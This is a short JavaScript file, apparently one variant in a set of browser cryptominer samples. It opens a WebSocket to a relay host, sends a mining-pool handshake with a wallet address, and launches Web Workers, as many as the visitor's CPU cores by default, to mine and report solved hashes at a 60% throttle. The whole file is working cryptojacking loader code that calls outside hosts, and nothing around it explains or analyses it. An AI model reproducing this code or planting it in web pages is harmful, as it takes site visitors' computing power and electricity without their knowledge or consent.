// The same, under another name and with the pool's host in the open.
var server = 'wss://ws1.relay.invalid:8181/';
var pool = 'pool.relay.invalid:3333';
var addr = 'WALLET-OF-NOBODY', workerId = '', threads = -1, pass = 'x', throttleMiner = 60;
var job = null, workers = [], ws, receiveStack = [], sendStack = [], totalhashes = 0, connected = 0;
function PrettyIsLight(login, password, percent) {
  throttleMiner = percent;
  openWebSocket({ identifier: 'handshake', pool: pool, login: login, password: password, userid: '', version: 7 });
}
function openWebSocket(handshake) {
  ws = new WebSocket(server);
  ws.onmessage = function (event) {
    var message = JSON.parse(event.data);
    if (message.identifier === 'job') job = message;
    if (message.identifier === 'hashsolved') totalhashes++;
  };
  ws.onopen = function () { ws.send(JSON.stringify(handshake)); connected = 1; addWorkers(threads); };
}
function addWorkers(count) {
  if (count < 0) count = navigator.hardwareConcurrency || 4;
  while (count-- > 0) {
    var w = new Worker('worker.js');
    w.onmessage = function (e) { if (e.data !== 'wakeup') ws.send(e.data); this.postMessage([job, throttleMiner]); };
    workers.push(w);
  }
}
